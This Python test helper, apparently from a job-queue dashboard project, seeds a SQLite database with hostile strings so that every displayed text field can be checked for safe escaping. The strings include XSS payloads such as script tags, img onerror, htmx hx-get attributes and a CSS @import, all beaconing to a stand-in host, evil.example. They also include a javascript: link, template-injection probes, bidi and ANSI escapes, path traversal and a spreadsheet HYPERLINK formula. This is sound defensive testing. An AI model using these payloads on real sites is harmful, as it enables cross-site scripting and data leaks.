"""Values that want to run, to break a page's layout or to send something away, in every text field that pages show.

Tables are public: another program may have written anything into them. So the values are written into the tables of a
seeded SQLite file, past all checks.
"""

from __future__ import annotations

import json
import sqlite3
from contextlib import closing
from pathlib import Path

from dray import App
from dray.clock import Ids, SystemClock
from dray.model.error_group import error_key

BEACON = "http://evil.example/beacon"
_DEEP = "[" * 100 + "1" + "]" * 100
SHORT = {
    "script": "<script>alert(1)</script>",
    "image": f'"><img src="{BEACON}" onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "htmx": f'<b hx-get="{BEACON}" hx-trigger="load" hx-on:load="alert(1)" data-hx-get="{BEACON}">x</b>',
    "partial": f'<hx-partial hx-target="body"><img src="{BEACON}"></hx-partial>',
    "template": "{{7*7}} {% raw %} ${7*7}",
    "link": "javascript:alert(1)",
    "style": f'</style><style>@import "{BEACON}";body{{display:none}}</style>',
    "closing": "</main></div></body></html></textarea></title>",
    "svg": "<svg onload=alert(1)><foreignObject>",
    "bidi": "abc\u202egpj.exe\u2066 \u200f\u061c",
    "ansi": "\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07\x9b2J\x08\x00",
    "wide": "W" * 2_000,
    "zalgo": "a" + "\u0301" * 500,
    "path": "../../..//%2e%2e/?q=1#x",
    "formula": '=HYPERLINK("http://evil.example")',
}
LONG = {"megabyte": "<b>M</b>" * (1024 * 1024 // 8), "lines": "line\n" * 5_000}
_VALUES = json.dumps({"number": 2**53 + 1, "nul": "\x00", **SHORT})[:-1] + f', "deep": {_DEEP}}}'


def plant(path: Path) -> list[str]:
    """Writes them; returns the pages to look at, beside the lists."""
    ids = Ids(SystemClock())
    with closing(sqlite3.connect(path, isolation_level=None, timeout=30)) as connection:
        connection.execute("BEGIN IMMEDIATE")
        now = connection.execute("SELECT max(created_at) FROM dray_jobs").fetchone()[0]
        worker = ids.new()
        jobs = [
            _job(connection, ids.new(), now, text, worker if name == "script" else None)
            for name, text in {**SHORT, **LONG}.items()
        ]
        _worker(connection, worker, now)
        for name, text in SHORT.items():
            connection.execute(
                "INSERT OR IGNORE INTO dray_queues (name, created_at, paused_at) VALUES (?, ?, ?)", (text, now, now)
            )
            connection.execute(
                "INSERT INTO dray_actions VALUES (?, ?, ?, 'web', 'pause', 'queue', ?, ?, 1, 0)",
                (ids.new(), now, text, text, text),
            )
            connection.execute("INSERT INTO dray_workflows VALUES (?, ?, ?)", (ids.new(), text, now))
            columns = (
                "name, task, args, every_us, tz, misfire, misfire_limit, overlap, next_at, created_at, updated_at"
            )
            connection.execute(
                f"INSERT INTO dray_schedules ({columns}) VALUES (?, ?, ?, ?, 'UTC', 'skip', 1, 'skip', ?, ?, ?)",
                (text, f"task {name}", _VALUES, 3_600_000_000, now + 3_600_000_000, now, now),
            )
        connection.execute("COMMIT")
    return [f"/jobs/{job}" for job in jobs]


def _job(connection: sqlite3.Connection, job: str, now: int, text: str, worker: str | None) -> str:
    is_short = len(text) <= 2_000
    name = text if is_short else "a long one"
    values = {
        "id": job,
        "task": name,
        "queue": name,
        "state": "running" if worker else "failed",
        "reason": None if worker else "error",
        "priority": 0,
        "run_at": now,
        "attempt": 1,
        "max_attempts": 3,
        "max_crashes": 3,
        "worker_id": worker,
        "args": _VALUES if is_short else json.dumps({"text": text}),
        "result": json.dumps(text),
        "name": name,
        "tags": json.dumps([text[:2_000]]),
        "headers": json.dumps({"trace": text[:2_000]}),
        "progress": 50,
        "progress_message": text,
        "error": None if worker else f"ValueError: {text}",
        "error_key": None if worker else error_key(name, text),
        "step": None,
        "created_at": now,
        "updated_at": now,
        "started_at": now,
        "finished_at": None if worker else now,
    }
    marks = ", ".join("?" for _ in values)
    connection.execute(f"INSERT INTO dray_jobs ({', '.join(values)}) VALUES ({marks})", tuple(values.values()))
    for n in range(2):
        columns = "job_id, claim, attempt, outcome, error_type, error_message, traceback, started_at, finished_at"
        connection.execute(
            f"INSERT INTO dray_attempts ({columns}) VALUES (?, ?, ?, 'failed', ?, ?, ?, ?, ?)",
            (job, n, n + 1, name, text, f'Traceback:\n  File "{name}", line 1\n{text}', now - 2, now - 1),
        )
        connection.execute(
            "INSERT INTO dray_logs (job_id, claim, at, level, logger, message) VALUES (?, ?, ?, 'warning', ?, ?)",
            (job, n, now, name, text),
        )
    return job


def _worker(connection: sqlite3.Connection, worker: str, now: int) -> None:
    columns = "id, name, host, pid, boot, queues, tasks, concurrency, state, trouble"
    times = "started_at, last_seen_at, lease_until, stopped_at"
    for number, text in enumerate(SHORT.values()):
        values = (worker if number == 0 else Ids(SystemClock()).new(), text, text, 1, text)
        named = json.dumps([text])
        connection.execute(
            f"INSERT INTO dray_workers ({columns}, {times}) VALUES (?, ?, ?, ?, ?, ?, ?, 4, 'dead', ?, ?, ?, 0, ?)",
            (*values, named, named, text, now, now, now),
        )


def wide_workflow(app: App, steps: int) -> str:
    """A workflow with this many steps; returns its id."""

    @app.task(name="wide.step")
    def step() -> None: ...

    flow = app.workflow("wide")
    first = flow.add(step, step="first")
    for n in range(steps - 2):
        flow.add(step, after=first, step=f"part-{n}")
    flow.add(step, after=[f"part-{n}" for n in range(min(steps - 2, 500))], step="last")
    return flow.enqueue().id
